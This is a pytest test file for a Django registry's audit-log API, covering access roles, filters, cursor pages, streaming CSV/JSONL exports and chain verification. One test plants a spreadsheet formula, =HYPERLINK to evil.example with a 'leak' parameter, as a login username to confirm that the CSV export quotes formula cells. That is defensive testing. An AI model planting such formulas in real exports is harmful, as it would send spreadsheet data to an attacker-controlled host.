"""Reviewing the audit log: who may read it, filters, cursor pages, exports and the verify endpoint."""

from __future__ import annotations

import csv
import io
import json
import warnings
from datetime import UTC, datetime

import pytest
from asgiref.sync import async_to_sync
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext

from registry.api.audit_views import StreamingExportResponse, _csv_cell
from registry.models import AuditEvent, Role
from tests.support.audit_factory import append_bulk_events
from tests.support.people import make_person

pytestmark = pytest.mark.django_db

ENDPOINTS = ["/api/v1/audit", "/api/v1/audit/export?format=csv", "/api/v1/audit/verify"]
START = datetime(2025, 1, 1, tzinfo=UTC)


@pytest.fixture
def auditor(db):
    return make_person("auditor", Role.AUDITOR)


def _seqs(response):
    assert response.status_code == 200, response.content
    return [event["seq"] for event in response.json()["results"]]


def _create_models(person, *names):
    for name in names:
        assert person.post("/api/v1/models", {"name": name}).status_code == 201


# --- Who may read ---------------------------------------------------------------------------


@pytest.mark.parametrize("path", ENDPOINTS)
def test_maintainer_cannot_read_the_audit_log(owner, path):
    before = AuditEvent.objects.count()
    response = owner.get(path)
    assert response.status_code == 403
    assert response.json() == {"error": "reading the audit log needs the auditor or admin role", "detail": None}
    # A refused read is not a refused write: nothing is recorded.
    assert AuditEvent.objects.count() == before


@pytest.mark.parametrize("path", ENDPOINTS)
def test_admin_can_read_the_audit_log(path):
    admin = make_person("root", Role.ADMIN)
    assert admin.get(path).status_code == 200


@pytest.mark.parametrize("path", ENDPOINTS)
def test_anonymous_caller_is_401(client, db, path):
    response = client.get(path)
    assert response.status_code == 401
    assert response.json()["error"] == "authentication required: send 'Authorization: Bearer <token>'"


def test_write_to_the_audit_log_is_refused_and_recorded(owner):
    response = owner.post("/api/v1/audit", {"action": "forged"})
    assert response.status_code == 403
    denied = AuditEvent.objects.get(action="access.denied")
    assert (denied.actor, denied.target, denied.after["method"]) == ("owner", "POST /api/v1/audit", "POST")


# --- Listing ----------------------------------------------------------------------------------


def test_auditor_lists_events_newest_first(owner, auditor):
    _create_models(owner, "m1")
    response = auditor.get("/api/v1/audit")
    seqs = _seqs(response)
    assert seqs == sorted(AuditEvent.objects.values_list("seq", flat=True), reverse=True)
    newest = response.json()["results"][0]
    event = AuditEvent.objects.get(seq=newest["seq"])
    assert newest["action"] == "model.create"
    assert (newest["actor"], newest["model"], newest["target"]) == ("owner", "m1", "m1")
    assert (newest["hash"], newest["prev_hash"]) == (event.hash, event.prev_hash)
    assert newest["after"] == {"description": "", "tags": []}


def test_order_seq_lists_oldest_first(auditor):
    append_bulk_events(5)
    assert _seqs(auditor.get("/api/v1/audit?order=seq"))[:3] == [1, 2, 3]


def test_bad_order_is_400(auditor):
    response = auditor.get("/api/v1/audit?order=at")
    assert response.status_code == 400
    assert response.json()["error"] == "order: use -seq or seq"


def test_filters_by_actor_action_and_model(owner, auditor):
    _create_models(owner, "m1", "m2")
    owner.patch("/api/v1/models/m1", {"description": "edited"})

    def actions(query):
        response = auditor.get(f"/api/v1/audit?{query}")
        assert response.status_code == 200, response.content
        return [(e["action"], e["model"]) for e in response.json()["results"]]

    assert actions("actor=owner") == [("model.update", "m1"), ("model.create", "m2"), ("model.create", "m1")]
    assert actions("action=model.create") == [("model.create", "m2"), ("model.create", "m1")]
    assert actions("action=model.") == [("model.update", "m1"), ("model.create", "m2"), ("model.create", "m1")]
    assert actions("action=model") == []  # without the trailing dot it is an exact match
    assert actions("model=m1") == [("model.update", "m1"), ("model.create", "m1")]
    assert actions("actor=owner&action=model.&model=m2") == [("model.create", "m2")]
    assert {a for a, _ in actions("actor=system")} == {"user.create", "user.roles.grant", "token.create"}


def test_since_is_inclusive_and_until_exclusive(auditor):
    before = AuditEvent.objects.count()
    append_bulk_events(10, start=START)  # the first event is at START + 1 s, and so on
    assert _seqs(auditor.get("/api/v1/audit?since=2025-01-01T00:00:03Z&until=2025-01-01T00:00:06Z")) == [
        before + 5,
        before + 4,
        before + 3,
    ]
    # An offset whose '+' arrived unescaped (read as a space) still parses.
    assert len(_seqs(auditor.get("/api/v1/audit?since=2025-01-01T00:00:09+00:00"))) >= 2
    assert _seqs(auditor.get("/api/v1/audit?until=2025-01-01T00:00:02%2B00:00")) == [before + 1]


@pytest.mark.parametrize("param", ["since", "until"])
@pytest.mark.parametrize("path", ["/api/v1/audit", "/api/v1/audit/export?format=csv"])
def test_bad_time_is_400(auditor, param, path):
    sep = "&" if "?" in path else "?"
    response = auditor.get(f"{path}{sep}{param}=yesterday")
    assert response.status_code == 400
    assert response.json()["error"] == (
        f"{param}: Datetime has wrong format. Use one of these formats instead: "
        "YYYY-MM-DDThh:mm[:ss[.uuuuuu]][+HH:MM|-HH:MM|Z]."
    )


def test_since_after_until_is_400(auditor):
    response = auditor.get("/api/v1/audit?since=2025-02-01T00:00:00Z&until=2025-01-01T00:00:00Z")
    assert response.status_code == 400
    assert response.json()["error"] == "until: must be later than since"


def test_cursor_pages_cover_every_event_once_while_new_events_arrive(auditor):
    append_bulk_events(20)
    expected = sorted(AuditEvent.objects.values_list("seq", flat=True), reverse=True)
    response = auditor.get("/api/v1/audit?page_size=7")
    body = response.json()
    assert body["previous"] is None
    seen = [e["seq"] for e in body["results"]]
    append_bulk_events(3)  # newer events must not shift the pages already handed out
    while body["next"]:
        assert "page_size=7" in body["next"]
        body = auditor.get(body["next"]).json()
        assert len(body["results"]) <= 7
        seen += [e["seq"] for e in body["results"]]
    assert seen == expected


def test_cursor_pages_keep_filters_and_order(auditor):
    append_bulk_events(6, action="bulk.a")
    append_bulk_events(6, action="bulk.b")
    first = auditor.get("/api/v1/audit?action=bulk.b&order=seq&page_size=4").json()
    second = auditor.get(first["next"]).json()
    assert [e["action"] for e in first["results"] + second["results"]] == ["bulk.b"] * 6
    seqs = [e["seq"] for e in first["results"] + second["results"]]
    assert seqs == sorted(seqs)
    assert second["next"] is None and second["previous"]


def test_list_query_count_does_not_grow_with_rows(auditor):
    append_bulk_events(3)
    auditor.get("/api/v1/audit")  # the first request of a token also stamps its last use
    with CaptureQueriesContext(connection) as few:
        auditor.get("/api/v1/audit")
    append_bulk_events(60)
    with CaptureQueriesContext(connection) as many:
        assert len(_seqs(auditor.get("/api/v1/audit"))) == 50
    assert len(many) == len(few) == 3  # the token, its roles, one page


# --- Export -------------------------------------------------------------------------------------


def _body(response):
    assert response.status_code == 200, response.content
    assert response.streaming
    return b"".join(response.streaming_content).decode()


def test_csv_export_has_a_header_and_every_matching_event(owner, auditor):
    _create_models(owner, "m1", "m2")
    response = auditor.get("/api/v1/audit/export?format=csv&action=model.")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="audit.csv"'
    rows = list(csv.reader(io.StringIO(_body(response))))
    assert rows[0][:3] == ["seq", "at", "actor"]
    assert rows[0][-2:] == ["prev_hash", "hash"]
    records = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert [(r["action"], r["model"]) for r in records] == [("model.create", "m1"), ("model.create", "m2")]
    assert json.loads(records[0]["after"]) == {"description": "", "tags": []}
    assert records[0]["before"] == ""


def test_jsonl_export_lets_anyone_recompute_the_hashes(owner, auditor):
    _create_models(owner, "m1")
    response = auditor.get("/api/v1/audit/export?format=jsonl")
    assert response["Content-Type"] == "application/x-ndjson"
    *lines, signed = _body(response).splitlines()
    assert len(lines) == AuditEvent.objects.count()
    # The events, then the registry's signature over the chain's head (tests/registry/test_audit_offline.py).
    last = AuditEvent.objects.order_by("seq").last()
    assert json.loads(signed)["type"] == "signed_head"
    assert (json.loads(signed)["seq"], json.loads(signed)["hash"]) == (last.seq, last.hash)
    for line in lines:
        record = json.loads(line)
        record["model_name"] = record.pop("model")
        record["at"] = datetime.fromisoformat(record["at"])
        event = AuditEvent(**record)
        assert event.compute_hash() == record["hash"]


HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"details")'


def test_csv_export_quotes_cells_a_spreadsheet_would_run_as_formulas(auditor):
    # A failed login records the name and user agent the caller chose; a username may start with '-'.
    response = Client().post("/accounts/login/", {"username": HYPERLINK, "password": "x"}, HTTP_USER_AGENT="@SUM(1+1)")
    assert response.status_code == 200
    dashed = make_person("-dash", Role.MAINTAINER)
    _create_models(dashed, "m1")
    response = auditor.get("/api/v1/audit/export?format=csv")
    rows = list(csv.reader(io.StringIO(_body(response))))
    records = {row[5]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}  # by action
    assert (records["auth.failed"]["target"], records["auth.failed"]["user_agent"]) == ("'" + HYPERLINK, "'@SUM(1+1)")
    assert records["model.create"]["actor"] == "'-dash"
    assert records["model.create"]["target"] == "m1"  # nothing else changes
    # JSONL keeps the exact values, so that hashes can be recomputed from it.
    lines = [json.loads(line) for line in _body(auditor.get("/api/v1/audit/export?format=jsonl")).splitlines()]
    failed = next(record for record in lines if record["action"] == "auth.failed")
    assert (failed["target"], failed["user_agent"]) == (HYPERLINK, "@SUM(1+1)")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_quoted_in_csv(start):
    assert _csv_cell(start + "1+1") == "'" + start + "1+1"


@pytest.mark.parametrize("value", ["plain", "1+1", " =1", "", 42])
def test_other_cells_are_left_alone(value):
    assert _csv_cell(value) == value


@pytest.mark.parametrize("query", ["format=xml", "format=", ""])
def test_export_without_a_known_format_is_400(auditor, query):
    response = auditor.get(f"/api/v1/audit/export?{query}")
    assert response.status_code == 400
    assert response.json()["error"] == "format: use csv or jsonl"


def test_export_streams_lazily_under_asgi():
    """Django's ASGI path would read a plain generator to the end before sending; ours must not."""
    log = []

    def produce():
        for i in range(3):
            log.append(f"made {i}")
            yield f"part {i}".encode()

    async def consume():
        async for part in StreamingExportResponse(produce()):
            log.append(f"sent {part.decode()[-1]}")

    async_to_sync(consume)()
    assert log == ["made 0", "sent 0", "made 1", "sent 1", "made 2", "sent 2"]


@pytest.mark.django_db(transaction=True)
def test_export_streams_chunk_by_chunk_through_the_asgi_handler(monkeypatch):
    """The real ASGI path: many body messages, every event once, and the request's cursor kept across chunks."""
    from django.core.handlers.asgi import ASGIHandler
    from django.db import connections

    # The handler's worker thread opens its own connection; close it when the request finishes.
    monkeypatch.setitem(connections.settings["default"], "CONN_MAX_AGE", 0)
    auditor = make_person("auditor", Role.AUDITOR)
    append_bulk_events(5000)
    total = AuditEvent.objects.count()
    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "GET",
        "scheme": "http",
        "path": "/api/v1/audit/export",
        "raw_path": b"/api/v1/audit/export",
        "query_string": b"format=jsonl",
        "root_path": "",
        "headers": [(b"host", b"testserver"), (b"authorization", f"Bearer {auditor.token}".encode())],
        "client": ("127.0.0.1", 50000),
        "server": ("testserver", 80),
    }
    messages = []

    async def run():
        import asyncio

        requested = False

        async def receive():
            nonlocal requested
            if not requested:
                requested = True
                return {"type": "http.request", "body": b"", "more_body": False}
            await asyncio.Event().wait()  # the client never disconnects

        async def send(message):
            messages.append(message)

        await ASGIHandler()(scope, receive, send)

    with warnings.catch_warnings():
        # Django warns, and then buffers the whole body, when it is handed a plain sync iterator.
        warnings.filterwarnings("error", message="StreamingHttpResponse must consume")
        async_to_sync(run)()
    assert messages[0]["type"] == "http.response.start" and messages[0]["status"] == 200
    bodies = [m["body"] for m in messages[1:] if m.get("body")]
    assert len(bodies) >= 3  # 2,000 events per chunk
    *lines, signed = b"".join(bodies).splitlines()
    assert len(lines) == total
    assert [json.loads(line)["seq"] for line in lines] == list(range(1, total + 1))
    assert (json.loads(signed)["type"], json.loads(signed)["seq"]) == ("signed_head", total)


# --- Verify -------------------------------------------------------------------------------------


def test_verify_endpoint_reports_an_intact_chain(owner, auditor):
    _create_models(owner, "m1")
    response = auditor.get("/api/v1/audit/verify")
    assert response.status_code == 200
    count = AuditEvent.objects.count()
    assert response.json() == {
        "ok": True,
        "checked": count,
        "first_bad_seq": None,
        "reason": f"all {count} events verified",
    }
